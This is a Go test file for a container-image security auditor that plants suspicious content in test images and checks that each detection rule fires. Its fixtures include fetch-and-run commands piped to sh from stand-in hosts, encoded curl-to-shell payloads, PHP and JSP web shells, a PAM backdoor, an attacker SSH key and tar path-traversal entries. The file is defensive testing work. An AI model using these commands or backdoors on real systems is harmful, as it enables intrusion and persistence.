package rules

import (
	"archive/tar"
	"fmt"
	"sort"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/auditor-dev/auditor/index"
)

// testImage is an image planted with what one class of the default pack
// must catch.
type testImage struct {
	repo    string
	layers  []v1.Layer
	history []string
	config  func(*v1.ConfigFile)
}

// hit is a finding a test expects: rule, repository, path ("" for an
// image-level finding) and the index of the layer in the image (-1 none).
type hit struct {
	rule, repo, path string
	layer            int
}

func (h hit) String() string {
	return fmt.Sprintf("%s %s %q layer %d", h.rule, h.repo, h.path, h.layer)
}

// classImages builds one image per class of the default pack on a shared
// base, plus the bare base, and the findings the pack must make on them:
// exactly these, and nothing else.
func classImages(t testing.TB) ([]testImage, []hit) {
	base := dpkgBaseLayer(t)
	img := func(repo string, ls ...v1.Layer) testImage {
		return testImage{repo: repo, layers: append([]v1.Layer{base}, ls...)}
	}
	var imgs []testImage
	var want []hit
	add := func(ti testImage, hits ...hit) {
		imgs = append(imgs, ti)
		for _, h := range hits {
			h.repo = ti.repo
			want = append(want, h)
		}
	}
	add(img("test/base"))

	// 1. An executable deleted by a later layer.
	add(img("test/hidden",
		layerOf(t, ent{name: "usr/local/bin/dropper", mode: 0o755, body: elf("dropper")}, ent{name: "opt/app/readme.txt", body: "hi\n"}),
		layerOf(t, ent{name: "usr/local/bin/.wh.dropper"})),
		hit{rule: "hidden-sensitive-file", path: "/usr/local/bin/dropper", layer: 1},
		hit{rule: "hidden-deleted-file", path: "/usr/local/bin/dropper", layer: 1})

	// 2. An AWS key in a config file, and a credential file.
	add(img("test/secrets",
		layerOf(t, ent{name: "srv/app/config.yml", body: "region: eu-west-1\naws_access_key_id: AKIAQWERTYUIOP234567\n"},
			ent{name: "root/.git-credentials", body: "https://deploy:hunter2@git.example.com\n"})),
		hit{rule: "secret-in-content", path: "/srv/app/config.yml", layer: 1},
		hit{rule: "secret-file-name", path: "/root/.git-credentials", layer: 1})

	// 3. A script in a hidden directory under /tmp, a library to preload in
	// /tmp, and an executable among detached debug symbols (the symbols
	// themselves, ELF files without an execute bit, are normal).
	add(img("test/exec", layerOf(t, ent{name: "tmp/.cache/run", mode: 0o755, body: "#!/bin/sh\nexec /tmp/.cache/x\n"},
		ent{name: "tmp/libhook.so", mode: 0o644, body: elf("hook")},
		ent{name: "usr/lib/debug/.build-id/ab/cdef0123.debug", mode: 0o644, body: elf("symbols")},
		ent{name: "usr/lib/debug/.build-id/cd/ef456789", mode: 0o755, body: elf("miner")})),
		hit{rule: "executable-in-temp-or-hidden-dir", path: "/tmp/.cache/run", layer: 1},
		hit{rule: "executable-in-temp-or-hidden-dir", path: "/tmp/libhook.so", layer: 1},
		hit{rule: "executable-in-temp-or-hidden-dir", path: "/usr/lib/debug/.build-id/cd/ef456789", layer: 1},
		hit{rule: "unpackaged-system-executable", path: "/usr/lib/debug/.build-id/cd/ef456789", layer: 1})

	// 4. A setuid helper, a binary with file capabilities, and a hardlink
	// whose setgid mode extraction applies to the file it links.
	add(img("test/privilege", layerOf(t,
		ent{name: "usr/local/bin/helper", mode: 0o4755, body: elf("helper")},
		ent{name: "usr/local/bin/pinger", mode: 0o755, body: elf("pinger"), caps: capNetRaw()},
		ent{name: "usr/local/bin/tool", mode: 0o755, body: elf("tool")},
		ent{name: "usr/local/bin/tool2", mode: 0o2755, typ: tar.TypeLink, link: "usr/local/bin/tool"})),
		hit{rule: "setuid-unusual", path: "/usr/local/bin/helper", layer: 1},
		hit{rule: "setuid-added-by-upper-layer", path: "/usr/local/bin/helper", layer: 1},
		hit{rule: "setuid-unusual", path: "/usr/local/bin/tool2", layer: 1},
		hit{rule: "setuid-added-by-upper-layer", path: "/usr/local/bin/tool2", layer: 1},
		hit{rule: "file-capabilities", path: "/usr/local/bin/pinger", layer: 1})

	// 5. A cron entry added by a plain layer; a package install (init
	// script, libc upgrade, as dpkg writes them) and a home copied from
	// /etc/skel are normal.
	svcInit := pkg{name: "svc", version: "1.0-1", arch: "amd64", files: []pkgFile{{path: "/etc/init.d/svc", mode: 0o755, body: "#!/bin/sh\n", conffile: true}}}
	libc2 := basePackages()[3]
	libc2.version = "2.36-9+deb12u7"
	libc2.files = []pkgFile{{path: "/usr/lib/libc.so.6", mode: 0o755, body: elf("libc 2")}, libc2.files[1]}
	add(img("test/persistence",
		dpkgLayer(t, with(basePackages(), svcInit, libc2), []pkg{svcInit, libc2}),
		layerOf(t, ent{name: "etc/cron.d/updater", body: "* * * * * root /usr/local/bin/x\n"},
			ent{name: "home/app/.bashrc", body: "# ~/.bashrc\n"})),
		hit{rule: "persistence-point", path: "/etc/cron.d/updater", layer: 2})

	// 6. Tar anomalies.
	add(img("test/tar", layerOf(t,
		ent{name: "../../etc/evil", body: "x"},
		ent{name: "/abs/file", body: "x"},
		ent{name: "opt/ctl\x01name", body: "x"},
		ent{name: "opt/escape", typ: tar.TypeSymlink, link: "../../../etc/shadow"},
		ent{name: "opt/inside", typ: tar.TypeSymlink, link: "../etc/passwd"},
		ent{name: "opt/null", typ: tar.TypeChar, major: 1},
		ent{name: "opt/dup", body: "a"},
		ent{name: "opt/dup", body: "b"},
		ent{name: "opt/.wh.ghost"})),
		hit{rule: "tar-unsafe-entry", path: "/etc/evil", layer: 1},
		hit{rule: "tar-unsafe-entry", path: "/abs/file", layer: 1},
		hit{rule: "tar-unsafe-entry", path: "/opt/ctl\x01name", layer: 1},
		hit{rule: "tar-unsafe-entry", path: "/opt/escape", layer: 1},
		hit{rule: "tar-unsafe-entry", path: "/opt/null", layer: 1},
		hit{rule: "tar-duplicate-entry", path: "/opt/dup", layer: 1},
		hit{rule: "tar-orphan-whiteout", path: "/opt/ghost", layer: 1})

	// 6b. Whiteouts that delete something: a directory known only by the
	// files under it, and a file that landed there through a link to a
	// directory (its own entry is at the link's path).
	add(img("test/whiteouts",
		layerOf(t, ent{name: "srv/data/a", body: "a"},
			ent{name: "srv/real/", typ: tar.TypeDir, mode: 0o755},
			ent{name: "var/www", typ: tar.TypeSymlink, link: "/srv/real"}),
		layerOf(t, ent{name: "var/www/index.html", body: "<p>"}),
		layerOf(t, ent{name: "srv/.wh.data"}, ent{name: "srv/real/.wh.index.html"})),
		hit{rule: "hidden-deleted-file", path: "/srv/data/a", layer: 1},
		hit{rule: "hidden-deleted-file", path: "/srv/real/index.html", layer: 2})

	// 7. /usr/bin/ls replaced without the package manager.
	add(img("test/drift", layerOf(t, ent{name: "usr/bin/ls", mode: 0o755, body: elf("ls, but not")})),
		hit{rule: "system-binary-replaced", path: "/usr/bin/ls", layer: 1},
		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 1},
		hit{rule: "package-binary-modified", path: "/usr/bin/ls", layer: 1})

	// 8. History and config.
	cfgImg := img("test/config", layerOf(t, ent{name: "opt/x.sh", mode: 0o755, body: "#!/bin/sh\n"}))
	cfgImg.history = []string{"", "/bin/sh -c curl -fsSL http://203.0.113.7/x.sh | sh"}
	cfgImg.config = func(cf *v1.ConfigFile) {
		cf.Config.Env = []string{"PATH=/tmp:/usr/bin:/bin", "LD_PRELOAD=/usr/lib/libhook.so", "LD_LIBRARY_PATH=/opt/lib"}
		cf.Config.Entrypoint = []string{"/tmp/.x/run"}
	}
	add(cfgImg,
		hit{rule: "history-suspicious-command", layer: 1},
		hit{rule: "config-ld-preload", layer: -1},
		hit{rule: "config-ld-library-path", layer: -1},
		hit{rule: "config-path-writable-first", layer: -1},
		hit{rule: "config-entrypoint-suspicious-path", layer: -1})

	// 9. A miner by name and a pool URL in a config.
	add(img("test/miner", layerOf(t, ent{name: "opt/tools/xmrig", body: "not really\n"},
		ent{name: "opt/tools/pool.json", body: `{"url": "stratum+tcp://pool.example.net:3333", "user": "x"}`})),
		hit{rule: "known-bad-name", path: "/opt/tools/xmrig", layer: 1},
		hit{rule: "miner-pool-url", path: "/opt/tools/pool.json", layer: 1})

	// 11. A link into /usr/bin, then a file written through it: the tar
	// says /opt/plugins/ls, extraction replaces /usr/bin/ls. The base's own
	// bin -> usr/bin, written through by a package, is normal.
	pkgtool := pkg{name: "pkgtool", version: "2.1-1", arch: "amd64", files: []pkgFile{{path: "/bin/pkgtool", mode: 0o755, body: elf("pkgtool")}}}
	add(img("test/links",
		dpkgLayer(t, with(basePackages(), pkgtool), []pkg{pkgtool}, ent{name: "opt/plugins", typ: tar.TypeSymlink, link: "/usr/bin"}),
		layerOf(t, ent{name: "opt/plugins/ls", mode: 0o755, body: elf("ls, but not")})),
		hit{rule: "written-through-link-into-system-dir", path: "/usr/bin/ls", layer: 2},
		hit{rule: "system-binary-replaced", path: "/usr/bin/ls", layer: 2},
		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 2},
		hit{rule: "package-binary-modified", path: "/usr/bin/ls", layer: 2})

	// 12. A healthcheck, an ONBUILD trigger and a SHELL that fetch and run
	// code, and an image that drops to a user and goes back to root; then
	// their look-alikes, which must give nothing: a healthcheck probing a
	// URL, ONBUILD fetching a key it only reads, a SHELL with options, an
	// image that is root for one step and ends non-root, and one that
	// never leaves root.
	userSteps := func(user string, steps ...string) func(*v1.ConfigFile) {
		return func(cf *v1.ConfigFile) {
			for _, s := range steps {
				cf.History = append(cf.History, v1.History{CreatedBy: s, EmptyLayer: true})
			}
			cf.Config.User = user
		}
	}
	fetchHealth := img("test/health-fetch")
	fetchHealth.config = func(cf *v1.ConfigFile) {
		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -qO- http://updates.example.net/h.sh | sh"}, Interval: 30e9}
	}
	add(fetchHealth, hit{rule: "config-fetch-and-run", layer: -1})
	fetchBuild := img("test/onbuild-fetch")
	fetchBuild.config = func(cf *v1.ConfigFile) {
		cf.Config.OnBuild = []string{"COPY . /src", "RUN curl -fsSL -o /tmp/agent http://203.0.113.9/a && chmod +x /tmp/agent && /tmp/agent"}
		cf.Config.Shell = []string{"/bin/bash", "-c", "curl -s http://cdn.example.org/p | bash; exec bash -c \"$0\""}
	}
	add(fetchBuild, hit{rule: "config-fetch-and-run", layer: -1}, hit{rule: "config-fetch-and-run", layer: -1})
	backToRoot := img("test/user-back-to-root")
	backToRoot.config = userSteps("root", "USER app", "/bin/sh -c #(nop)  USER [root]")
	add(backToRoot, hit{rule: "history-user-back-to-root", layer: -1})
	noUser := img("test/user-unset")
	noUser.config = userSteps("", "/bin/sh -c #(nop) USER 1000:1000")
	add(noUser, hit{rule: "history-user-back-to-root", layer: -1})
	lookalikes := img("test/config-lookalikes")
	lookalikes.config = func(cf *v1.ConfigFile) {
		userSteps("nginx", "USER root", "/bin/sh -c echo USER root >> /etc/motd", "USER nginx")(cf)
		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -f http://localhost:8080/health || exit 1"}}
		cf.Config.OnBuild = []string{"RUN curl -fsSLo /usr/share/keyrings/x.gpg https://example.com/key.gpg && chmod 644 /usr/share/keyrings/x.gpg",
			"RUN wget -q --spider http://localhost/ && echo ok"}
		cf.Config.Shell = []string{"/bin/bash", "-o", "pipefail", "-c"}
	}
	add(lookalikes)
	rootOnly := img("test/root-only")
	rootOnly.config = userSteps("0:0", "USER root", "/bin/sh -c #(nop) USER 0")
	add(rootOnly)

	// 13. What security configuration files say, each technique beside
	// look-alikes that must not fire.
	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJ5b2d1cy1rZXktZm9yLXRlc3RzLW9ubHk attacker@c2\n"
	add(img("test/accounts", layerOf(t,
		ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\nguest:x:1001:1001::/home/guest:/bin/sh\n" +
			"svc:x:999:999::/nonexistent:/usr/sbin/nologin\nlocked:x:1002:1002::/home/l:/bin/sh\n"},
		ent{name: "etc/shadow", body: "root:*:19000:0:99999:7:::\ntoor:$6$salt$hash:19000::::::\nguest::19000::::::\nsvc::19000::::::\nlocked:!:19000::::::\n"},
		ent{name: "etc/sudoers.d/ci", body: "# ci ALL=(ALL) NOPASSWD: ALL\ndeploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n%wheel ALL=(ALL) ALL\nci ALL=(ALL) NOPASSWD:ALL\n"},
		ent{name: "root/.ssh/authorized_keys", body: "# keys\n" + key})),
		hit{rule: "account-extra-uid0", path: "/etc/passwd", layer: 1},
		hit{rule: "account-empty-password", path: "/etc/passwd", layer: 1},
		hit{rule: "account-system-password-set", path: "/etc/passwd", layer: 1}, // toor: uid 0, a hash, a shell
		hit{rule: "sudo-nopasswd-all", path: "/etc/sudoers.d/ci", layer: 1},
		hit{rule: "ssh-authorized-keys", path: "/root/.ssh/authorized_keys", layer: 1},
		hit{rule: "persistence-point", path: "/etc/sudoers.d/ci", layer: 1},
		hit{rule: "persistence-point", path: "/root/.ssh/authorized_keys", layer: 1})

	// sshd reads the drop-in before the main file's own line: root may log
	// in. In test/sshd-ok the main file's "no" comes before its Include.
	add(img("test/sshd", layerOf(t,
		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\n# PermitEmptyPasswords yes\n"},
		ent{name: "etc/ssh/sshd_config.d/10-cloud.conf", body: "PermitRootLogin yes\n"})),
		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config.d/10-cloud.conf", layer: 1})
	add(img("test/sshd-ok", layerOf(t,
		ent{name: "etc/ssh/sshd_config", body: "PermitRootLogin no\nInclude /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n"},
		ent{name: "etc/ssh/sshd_config.d/10-cloud.conf", body: "PermitRootLogin yes\n"})))

	// A PAM backdoor beside Debian's stock common-auth.
	add(img("test/pam", layerOf(t,
		ent{name: "etc/pam.d/common-auth", body: "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n"},
		ent{name: "etc/pam.d/sshd", body: "auth sufficient pam_permit.so\n@include common-auth\n"},
		ent{name: "etc/pam.d/login", body: "auth required /usr/lib/x86_64-linux-gnu/security/pam_unix.so\nauth required /tmp/.p/pam_unix.so\n"})),
		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/sshd", layer: 1},
		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/login", layer: 1})

	// Autostart that fetches code, whatever it is called; a stock cron job
	// and a unit that only runs a local binary are not.
	add(img("test/autostart", layerOf(t,
		ent{name: "etc/systemd/system/netsync.service", body: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.4/s | bash'\n"},
		ent{name: "etc/systemd/system/app.service", body: "[Service]\nExecStart=/usr/local/bin/app --listen :8080\n"},
		ent{name: "var/spool/cron/crontabs/www-data", body: "*/10 * * * * wget -q -O /tmp/.x http://198.51.100.4/a && chmod +x /tmp/.x && /tmp/.x\n"},
		ent{name: "etc/profile.d/motd.sh", body: "# curl http://example.com | sh\necho hello\n"})),
		hit{rule: "autostart-fetches-code", path: "/etc/systemd/system/netsync.service", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/var/spool/cron/crontabs/www-data", layer: 1},
		hit{rule: "autostart-runs-hidden-file", path: "/var/spool/cron/crontabs/www-data", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/netsync.service", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/app.service", layer: 1},
		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/www-data", layer: 1},
		hit{rule: "persistence-point", path: "/etc/profile.d/motd.sh", layer: 1})

	// A preloaded library (persistence-point's), a command run on module
	// load; blacklisting and install-to-true are normal.
	add(img("test/loader", layerOf(t,
		ent{name: "etc/ld.so.preload", body: "/usr/lib/libprocesshider.so\n"},
		ent{name: "etc/modprobe.d/local.conf", body: "blacklist pcspkr\ninstall usb-storage /bin/true\ninstall dummy /tmp/.m.sh\n"})),
		hit{rule: "persistence-point", path: "/etc/ld.so.preload", layer: 1},
		hit{rule: "kernel-module-autoload", path: "/etc/modprobe.d/local.conf", layer: 1})

	// Name resolution and package sources: a mirror and the image's own pip
	// index redirected, an unsigned apt source, a pip index over HTTP; apt
	// over plain HTTP (signed) and localhost are normal.
	add(img("test/sources", layerOf(t,
		ent{name: "etc/hosts", body: "127.0.0.1 localhost\n198.51.100.7 deb.debian.org\n198.51.100.8 pypi.internal\n"},
		ent{name: "etc/apt/sources.list", body: "deb http://deb.debian.org/debian bookworm main\n"},
		ent{name: "etc/apt/sources.list.d/tools.list", body: "deb [trusted=yes] https://tools.example/apt ./\n"},
		ent{name: "etc/pip.conf", body: "[global]\nindex-url = http://pypi.internal/simple\n"})),
		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
		hit{rule: "package-source-untrusted", path: "/etc/apt/sources.list.d/tools.list", layer: 1},
		hit{rule: "package-source-plain-http", path: "/etc/pip.conf", layer: 1})

	// History turned off; an ordinary HISTSIZE and a comment are not.
	add(img("test/history-off", layerOf(t,
		ent{name: "root/.bashrc", body: "HISTSIZE=1000\n# unset HISTFILE\nexport HISTFILE=/dev/null\n"},
		ent{name: "etc/sudoers.d/big", body: "x ALL=(ALL) ALL # " + strings.Repeat("a", 20000) + "\n"})),
		hit{rule: "shell-history-disabled", path: "/root/.bashrc", layer: 1},
		hit{rule: "persistence-point", path: "/root/.bashrc", layer: 1},
		hit{rule: "persistence-point", path: "/etc/sudoers.d/big", layer: 1},
		hit{rule: "security-config-unreadable", path: "/etc/sudoers.d/big", layer: 1})

	// 14. Masquerading, web shells and miner configurations, beside
	// look-alikes: a real readme, sshd where packages put it, PHP that only
	// echoes input, a document that mentions RandomX.
	add(img("test/masquerade", layerOf(t,
		ent{name: "var/www/html/logo.png", mode: 0o644, body: elf("payload")},
		ent{name: "usr/local/lib/kworkerds", mode: 0o755, body: elf("miner")},
		ent{name: "usr/bin/cr\u043en", mode: 0o755, body: elf("cron, not")},
		ent{name: "var/lib/app/sshd", mode: 0o755, body: elf("backdoor")},
		ent{name: "usr/share/doc/app/readme.txt", body: "read me\n"},
		ent{name: "usr/sbin/sshd", mode: 0o755, body: elf("sshd")})),
		hit{rule: "masquerade-content-kind", path: "/var/www/html/logo.png", layer: 1},
		hit{rule: "masquerade-kernel-thread-name", path: "/usr/local/lib/kworkerds", layer: 1},
		hit{rule: "masquerade-confusable-name", path: "/usr/bin/cr\u043en", layer: 1},
		hit{rule: "masquerade-daemon-name", path: "/var/lib/app/sshd", layer: 1},
		// No package of the image owns them.
		hit{rule: "unpackaged-system-executable", path: "/usr/bin/cr\u043en", layer: 1},
		hit{rule: "unpackaged-system-executable", path: "/usr/sbin/sshd", layer: 1})
	add(img("test/webshell", layerOf(t,
		ent{name: "var/www/html/uploads/img.php", body: "<?php @eval(base64_decode($_POST['c'])); ?>\n"},
		ent{name: "usr/local/tomcat/webapps/ROOT/cmd.jsp", body: "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n"},
		ent{name: "var/www/html/index.php", body: "<?php echo htmlspecialchars($_GET['q']); ?>\n"},
		ent{name: "opt/svc/config.json", body: `{"autosave": true, "donate-level": 0, "cpu": {"enabled": true}}`},
		ent{name: "opt/docs/monero.md", body: "RandomX is a proof-of-work algorithm; see \"randomx\" in the docs.\n"})),
		hit{rule: "web-shell", path: "/var/www/html/uploads/img.php", layer: 1},
		hit{rule: "web-shell", path: "/usr/local/tomcat/webapps/ROOT/cmd.jsp", layer: 1},
		hit{rule: "miner-configuration", path: "/opt/svc/config.json", layer: 1})

	// Decoded data piped to a shell, in a build step (hex) and in the
	// entrypoint (base64); decoding to a file and printf of text are not.
	decode := img("test/decode", layerOf(t, ent{name: "opt/k.b64", body: "a2V5Cg==\n"}))
	decode.history = []string{"", "/bin/sh -c echo 6375726c202d73 | xxd -r -p | sh && base64 -d /opt/k.b64 > /opt/k && printf 'hi\\n' | tee /etc/motd"}
	decode.config = func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "echo Y3VybCBodHRwOi8veC95IHwgc2g= | base64 -d | sh"}
	}
	add(decode, hit{rule: "history-suspicious-command", layer: 1}, hit{rule: "config-decode-to-shell", layer: -1})

	for _, ti := range packageImages(t, base) {
		add(ti.testImage, ti.hits...)
	}
	for _, ti := range techniqueImages(t, base) {
		add(ti.testImage, ti.hits...)
	}
	for _, ti := range authImages(t, base) {
		add(ti.testImage, ti.hits...)
	}
	for _, ti := range variantImages(t, base) {
		add(ti.testImage, ti.hits...)
	}
	return imgs, want
}

// gotHits maps findings to hits, with layer indexes from the images.
func gotHits(t testing.TB, fs []Finding, imgs []testImage) []hit {
	t.Helper()
	layerIdx := map[string]map[string]int{}
	for _, ti := range imgs {
		m := map[string]int{}
		for i, l := range ti.layers {
			d, err := l.Digest()
			if err != nil {
				t.Fatal(err)
			}
			m[d.String()] = i
		}
		layerIdx[ti.repo] = m
	}
	var out []hit
	for _, f := range fs {
		h := hit{rule: f.RuleID, repo: f.Repository, path: f.Path, layer: -1}
		if f.LayerDigest != "" {
			i, ok := layerIdx[f.Repository][f.LayerDigest]
			if !ok {
				t.Errorf("finding %s names layer %s, not a layer of %s", f.RuleID, f.LayerDigest, f.Repository)
			}
			h.layer = i
		}
		out = append(out, h)
	}
	return out
}

func sortedHits(hs []hit) []string {
	out := make([]string, len(hs))
	for i, h := range hs {
		out[i] = h.String()
	}
	sort.Strings(out)
	return out
}

func pushAll(t testing.TB, reg string, imgs []testImage) {
	t.Helper()
	for _, ti := range imgs {
		push(t, reg+"/"+ti.repo+":v1", imageOf(t, ti.config, ti.history, ti.layers...))
	}
}

// TestDefaultPackClasses plants each class of the default pack in its own
// image and checks that the pack finds exactly the planted files, in the
// right layers, and nothing else; then that a second scan with nothing
// changed reports nothing new, and that a new image adding one system
// binary is reported once, as new to the fleet.
func TestDefaultPackClasses(t *testing.T) {
	reg, imgs, want := classRegistry(t)
	db := tempDB(t)
	m := testMatcher(t)
	set := defaultSet(t)

	scanInto(t, db, m, reg)
	res := runRules(t, db, set, RunOptions{})
	got := gotHits(t, findings(t, db, Filter{}), imgs)
	if g, w := strings.Join(sortedHits(got), "\n"), strings.Join(sortedHits(want), "\n"); g != w {
		t.Errorf("findings:\n%s\nwant:\n%s", g, w)
	}
	if res.Counts.New != int64(len(want)) {
		t.Errorf("first run: %d new, want %d", res.Counts.New, len(want))
	}
	// Every class of the issue has a rule that fired.
	fired := map[string]bool{}
	for _, h := range got {
		fired[h.rule] = true
	}
	for _, r := range set.Rules {
		if !fired[r.ID] && r.ID != "new-to-fleet" {
			t.Errorf("rule %s fired on no test image", r.ID)
		}
	}

	// Nothing changed: nothing new, nothing resolved.
	scanInto(t, db, m, reg)
	res = runRules(t, db, set, RunOptions{})
	if res.Counts.New != 0 || res.Counts.Resolved != 0 || res.Counts.Findings != int64(len(want)) {
		t.Errorf("second scan, nothing changed: %+v, want 0 new, 0 resolved, %d findings", res.Counts, len(want))
	}

	// A new image with one new system binary: exactly one new finding.
	ti := testImage{repo: "test/newtool", layers: []v1.Layer{imgs[0].layers[0], layerOf(t, ent{name: "usr/local/bin/newtool", mode: 0o755, body: elf("newtool")})}}
	imgs = append(imgs, ti)
	pushAll(t, reg, imgs[len(imgs)-1:])
	scanInto(t, db, m, reg)
	res = runRules(t, db, set, RunOptions{})
	newOnes := gotHits(t, findings(t, db, Filter{States: []string{"new"}}), imgs)
	if g, w := sortedHits(newOnes), []string{hit{"new-to-fleet", "test/newtool", "/usr/local/bin/newtool", 1}.String()}; strings.Join(g, "\n") != strings.Join(w, "\n") {
		t.Errorf("third scan, new findings:\n%s\nwant:\n%s", strings.Join(g, "\n"), strings.Join(w, "\n"))
	}
	if res.Counts.New != 1 || res.Counts.Resolved != 0 {
		t.Errorf("third scan: %+v, want 1 new, 0 resolved", res.Counts)
	}
}

// TestIncrementalRuns: rules of scope "image" are evaluated only on images
// new or changed since their last run; the findings of the others are
// carried over, not resolved.
func TestIncrementalRuns(t *testing.T) {
	reg := testRegistry(t)
	base := baseLayer(t)
	bad := layerOf(t, ent{name: "opt/xmrig", body: "x"})
	push(t, reg+"/inc/a:1", imageOf(t, nil, nil, base))
	push(t, reg+"/inc/b:1", imageOf(t, nil, nil, base, bad))
	db := tempDB(t)
	m := testMatcher(t)
	set := defaultSet(t)
	images := func(res *Result, id string) int {
		for _, rr := range res.Rules {
			if rr.Rule.ID == id {
				return rr.Images
			}
		}
		t.Fatalf("no rule %s", id)
		return 0
	}

	scanInto(t, db, m, reg)
	res := runRules(t, db, set, RunOptions{})
	if n := images(res, "known-bad-name"); n != 2 || res.Counts.New != 1 {
		t.Errorf("first run: %d images, %+v; want 2 images, 1 new", n, res.Counts)
	}
	scanInto(t, db, m, reg)
	res = runRules(t, db, set, RunOptions{})
	if n := images(res, "known-bad-name"); n != 0 || res.Counts != (index.FindingCounts{Findings: 1}) {
		t.Errorf("nothing changed: %d images, %+v; want 0 images, 1 finding carried over", n, res.Counts)
	}
	fs := findings(t, db, Filter{})
	if len(fs) != 1 || fs[0].State != "open" || fs[0].FirstSeen != 1 || fs[0].LastSeen != 2 {
		t.Errorf("carried finding: %+v", fs)
	}

	push(t, reg+"/inc/c:1", imageOf(t, func(c *v1.ConfigFile) { c.Config.User = "nobody" }, nil, base, bad))
	scanInto(t, db, m, reg)
	res = runRules(t, db, set, RunOptions{})
	if n := images(res, "known-bad-name"); n != 1 || res.Counts != (index.FindingCounts{Findings: 2, New: 1}) {
		t.Errorf("one new image: %d images, %+v; want 1 image, 2 findings, 1 new", n, res.Counts)
	}
	// A changed rule is evaluated on every image again; so is every rule
	// with Full.
	changed := defaultSet(t)
	for i := range changed.Rules {
		if changed.Rules[i].ID == "known-bad-name" {
			changed.Rules[i].Title += "!"
		}
	}
	res = runRules(t, db, changed, RunOptions{})
	if n, m := images(res, "known-bad-name"), images(res, "setuid-unusual"); n != 3 || m != 0 || res.Counts.Resolved != 0 {
		t.Errorf("changed rule: %d and %d images, %+v; want 3 and 0, nothing resolved", n, m, res.Counts)
	}
	res = runRules(t, db, set, RunOptions{Full: true})
	if n := images(res, "setuid-unusual"); n != 3 {
		t.Errorf("full run: %d images, want 3", n)
	}
}
